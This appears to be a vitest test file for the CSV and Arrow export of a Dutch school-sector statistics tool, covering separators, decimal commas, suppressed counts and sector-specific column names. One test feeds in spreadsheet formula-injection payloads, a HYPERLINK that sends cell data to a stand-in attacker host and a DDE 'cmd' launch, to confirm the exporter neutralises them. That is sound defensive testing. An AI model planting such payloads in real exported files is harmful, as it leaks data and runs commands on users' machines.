import { describe, expect, it } from 'vitest';
import { tableFromIPC } from 'apache-arrow';
import { csvNaam, toArrow, toCsv } from './export';
import { sectorWoorden } from '../sector';
import type { QueryResult } from './db';

const result: QueryResult = {
	columns: [
		{ name: 'teldatum', kind: 'date' },
		{ name: 'deelname_sbo_pct', kind: 'number' },
		{ name: 'kring', kind: 'string' }
	],
	rows: [
		{ teldatum: '2024-10-01', deelname_sbo_pct: 2.26, kring: 'Kring "Noord"; oud' },
		{ teldatum: '2025-10-01', deelname_sbo_pct: null, kring: 'Kring Zuid' }
	]
};

describe('export formats', () => {
	it('writes CSV for Dutch Excel: ; separator, decimal comma, quoted text, BOM', () => {
		expect(toCsv(result)).toBe('\uFEFFteldatum;deelname_sbo_pct;kring\r\n2024-10-01;2,26;"Kring ""Noord""; oud"\r\n2025-10-01;;Kring Zuid\r\n');
	});
	it('writes Arrow IPC that reads back to the same values', () => {
		const t = tableFromIPC(toArrow(result));
		expect(t.numRows).toBe(2);
		expect(t.getChild('deelname_sbo_pct')?.get(0)).toBe(2.26);
		expect(t.getChild('deelname_sbo_pct')?.get(1)).toBeNull();
		expect(t.getChild('teldatum')?.get(1)).toBe('2025-10-01');
	});
	it('writes a suppressed count as "<5" in CSV and as null in Arrow', () => {
		const hidden: QueryResult = { columns: [{ name: 'leerlingen_so', kind: 'number' }], rows: [{ leerlingen_so: '<5' }, { leerlingen_so: 12 }] };
		expect(toCsv(hidden)).toBe('\uFEFFleerlingen_so\r\n<5\r\n12\r\n');
		const t = tableFromIPC(toArrow(hidden));
		expect(t.getChild('leerlingen_so')?.get(0)).toBeNull();
		expect(t.getChild('leerlingen_so')?.get(1)).toBe(12);
	});
	it('neutralises text that Excel would run as a formula, and leaves numbers alone (-3 stays -3)', () => {
		const names: QueryResult = {
			columns: [
				{ name: 'naam', kind: 'string' },
				{ name: 'verschil', kind: 'number' }
			],
			rows: [
				{ naam: '=HYPERLINK("https://aanvaller.example/?"&A1,"Klik")', verschil: -3 },
				{ naam: "+cmd|' /C calc'!A0", verschil: -1.5 },
				{ naam: '@SUM(1+1)*cmd', verschil: 0 },
				{ naam: '-2+3', verschil: 2 },
				{ naam: '\tTab', verschil: null },
				{ naam: '\rCR', verschil: null },
				{ naam: 'De Regenboog - locatie 2', verschil: 1 }
			]
		};
		expect(toCsv(names).split('\r\n').slice(1, -1)).toEqual([
			`"'=HYPERLINK(""https://aanvaller.example/?""&A1,""Klik"")";-3`,
			`'+cmd|' /C calc'!A0;-1,5`,
			`'@SUM(1+1)*cmd;0`,
			`'-2+3;2`,
			`'\tTab;`,
			`"'\rCR";`,
			`De Regenboog - locatie 2;1`
		]);
	});

	it('writes a VO SWV’s CSV in its words: a regio where the query says kring, in the names and in a niveau; the values as they are', () => {
		const budget: QueryResult = {
			columns: [
				{ name: 'niveau', kind: 'string' },
				{ name: 'kring', kind: 'string' },
				{ name: 'aandeel_kring_pct', kind: 'number' },
				{ name: 'kring_uitputting_pct', kind: 'number' },
				{ name: 'uren_hele_kring', kind: 'number' },
				{ name: 'kringnaam', kind: 'string' }
			],
			rows: [
				{ niveau: 'kring', kring: 'Regio Noord', aandeel_kring_pct: 12.5, kring_uitputting_pct: 80, uren_hele_kring: 10, kringnaam: 'kring' },
				{ niveau: 'school', kring: 'Regio Noord', aandeel_kring_pct: null, kring_uitputting_pct: null, uren_hele_kring: null, kringnaam: 'Kring Zuid' }
			]
		};
		expect(toCsv(budget, sectorWoorden('vo'))).toBe(
			'\uFEFFniveau;regio;aandeel_regio_pct;regio_uitputting_pct;uren_hele_regio;kringnaam\r\nregio;Regio Noord;12,5;80;10;kring\r\nschool;Regio Noord;;;;Kring Zuid\r\n'
		);
		// PO: as it was, word for word.
		expect(toCsv(budget, sectorWoorden('po'))).toBe(toCsv(budget));
		expect(toCsv(budget).split('\r\n')[0]).toBe('\uFEFFniveau;kring;aandeel_kring_pct;kring_uitputting_pct;uren_hele_kring;kringnaam');
	});
	it('leaves the other sector’s empty columns out of a CSV (kerncijfers serves both), never a column with a value', () => {
		const kern: QueryResult = {
			columns: [
				'teldatum',
				'leerlingen_bao',
				'deelname_sbo_pct',
				'rugzak_pct',
				'leerlingen_so',
				'deelname_vso_pct',
				'leerlingen_pro',
				'vorig_deelname_lwoo_pct'
			].map((name) => ({
				name,
				kind: name === 'teldatum' ? ('string' as const) : ('number' as const)
			})),
			rows: [
				{
					teldatum: '2025-10-01',
					leerlingen_bao: 0,
					deelname_sbo_pct: null,
					rugzak_pct: null,
					leerlingen_so: 3,
					deelname_vso_pct: 3.1,
					leerlingen_pro: 600,
					vorig_deelname_lwoo_pct: 5.23
				}
			]
		};
		// VO: bao, sbo and rugzak are empty and go; leerlingen_so has a value (3) and stays, whatever its name.
		expect(toCsv(kern, sectorWoorden('vo'))).toBe(
			'\uFEFFteldatum;leerlingen_so;deelname_vso_pct;leerlingen_pro;vorig_deelname_lwoo_pct\r\n2025-10-01;3;3,1;600;5,23\r\n'
		);
		// PO: the VO columns have values here, so nothing goes; empty ones would.
		expect(toCsv(kern, sectorWoorden('po')).split('\r\n')[0]).toBe(
			'\uFEFFteldatum;leerlingen_bao;deelname_sbo_pct;rugzak_pct;leerlingen_so;deelname_vso_pct;leerlingen_pro;vorig_deelname_lwoo_pct'
		);
		const po = { ...kern, rows: [{ ...kern.rows[0], deelname_vso_pct: null, leerlingen_pro: 0, vorig_deelname_lwoo_pct: null }] };
		expect(toCsv(po, sectorWoorden('po')).split('\r\n')[0]).toBe('\uFEFFteldatum;leerlingen_bao;deelname_sbo_pct;rugzak_pct;leerlingen_so');
	});
	it('names a VO download in its words: budget_kringen is budget_regios, vo_deelname_per_kring vo_deelname_per_regio', () => {
		expect(csvNaam('budget_kringen', sectorWoorden('vo'))).toBe('budget_regios');
		expect(csvNaam('vo_deelname_per_kring', sectorWoorden('vo'))).toBe('vo_deelname_per_regio');
		expect(csvNaam('kerncijfers', sectorWoorden('vo'))).toBe('kerncijfers');
		expect(csvNaam('budget_kringen', sectorWoorden('po'))).toBe('budget_kringen');
		expect(csvNaam('arrangementen_per_kring', sectorWoorden('po'))).toBe('arrangementen_per_kring');
	});
});
